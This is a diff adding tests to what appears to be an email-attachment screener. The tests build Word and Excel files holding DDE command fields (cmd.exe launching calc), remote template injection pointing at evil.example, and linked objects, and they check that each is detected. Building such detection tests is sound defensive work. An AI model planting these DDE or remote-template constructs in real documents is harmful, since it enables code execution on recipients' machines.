@@ -9,6 +9,7 @@ from fakes.odd_mail import attached, zipped
 from hypothesis import given
 from hypothesis import strategies as st
 
+from screener.anatomy.active import Active
 from screener.anatomy.budget import Budget
 from screener.anatomy.defects import Defect
 from screener.anatomy.ledger import ForeignParserNeeded, Ledger
@@ -151,3 +152,67 @@ def test_noise_is_read_to_its_end(data: st.DataObject, name: str) -> None:
     ledger = Ledger(Budget(), len(octets), foreign=True)
     for read in ole.read(bytes(octets), (), ledger, "a").texts:
         assert len(read(100)) <= 100
+
+
+def acts(octets: bytes, name: str) -> set[Active]:
+    return {kind for one in Anatomy(attached(octets, name)).attachments for kind in one.active_content}
+
+
+def templated(path: str) -> bytes:
+    strings = struct.pack("<HHH", 0xFFFF, 3, 0)
+    strings += b"".join(struct.pack("<H", len(one)) + one.encode("utf-16-le") for one in ("x", path, "title"))
+    stream = struct.pack("<HH6xH", 0xA5EC, 0xC1, 0x200).ljust(0x400, b"\0")
+    stream = stream[:0x19A] + struct.pack("<LL", 1, len(strings)) + stream[0x1A2:]
+    return compound({"WordDocument": stream, "1Table": b"*" + strings})
+
+
+def linked(path: str, flags: int = 8, double: int = 0, version: int = 0x600) -> bytes:
+    """A workbook with a link to another program, or to a book."""
+    octets = path.encode("utf-16-le" if double else "latin-1")
+    book = record(0x1AE, struct.pack("<HHB", 0, len(path), double) + octets + b"\3\0\0abc")
+    if version < 0x600:
+        book = record(0x0A, b"") + record(0x17, bytes((len(octets),)) + octets)  # of a sheet
+    return workbook(book, record(0x23, struct.pack("<HHH", flags, 0, 0) + b"\2\0A0"), version=version)
+
+
+@pytest.mark.parametrize(
+    ("octets", "active"),
+    [
+        (word('a \x13 DDEAUTO c:\\\\cmd.exe "/k calc" \x14x\x15 b'), {Active.DDE}),
+        (word(b"a \x13 D", "DE c:\\cmd \x14x\x15 b"), {Active.DDE}),
+        (word("\x13 \x13 QUOTE 68 68 69 \x15 cmd \x15"), {Active.DDE}),
+        (word("\x13 REF a \x14b\x15" * 21_000 + "\x13 DDE cmd \x15"), {Active.DDE}),
+        (word_95(b"a \x13 DDE cmd \x14x\x15 b"), {Active.DDE}),
+        (word("about DDE \x13 DATE \\@ DDMMYY \x14x\x15 DDE"), set()),
+        (templated("http://evil.example/t.dotm"), {Active.TEMPLATE}),
+        (templated("\\\\evil.example@80\\dav\\t.dotm"), {Active.TEMPLATE}),
+        (templated("\\\\server\\templates\\t.dot"), {Active.SHARE}),
+        (templated("C:\\Templates\\t.dot"), set()),
+        (templated(""), set()),
+    ],
+)
+def test_what_acts_in_a_word_document(octets: bytes, active: set[Active]) -> None:
+    assert acts(octets, "a.doc") == active
+
+
+@pytest.mark.parametrize(
+    ("octets", "active"),
+    [
+        (linked("cmd\3/c calc"), {Active.DDE}),
+        (linked("cmd\3/c calc", double=1), {Active.DDE}),
+        (linked("cmd\3/c calc", version=0x500), {Active.DDE}),
+        (linked("Word.Document.8\3http://evil.example/x.doc", flags=0x10), {Active.LINKED_OBJECT}),
+        (linked("Word.Document.8\3C:\\x.doc", flags=0x10), set()),
+        (linked("\1folder\3book.xls"), set()),
+        (linked("\1folder\3book.xls", version=0x500), set()),
+        (linked("book.xls"), set()),
+        (linked("\3Sheet1", version=0x500), set()),
+    ],
+)
+def test_what_acts_in_a_workbook(octets: bytes, active: set[Active]) -> None:
+    assert acts(octets, "a.xls") == active
+
+
+def test_a_workbook_of_records_alone_that_starts_a_program() -> None:
+    octets = record(0x409, struct.pack("<HHH", 0, 0x10, 0)) + record(0x17, b"\x0bcmd\3/c calc") + record(0x0A, b"")
+    assert acts(octets, "a.xls") == {Active.DDE}
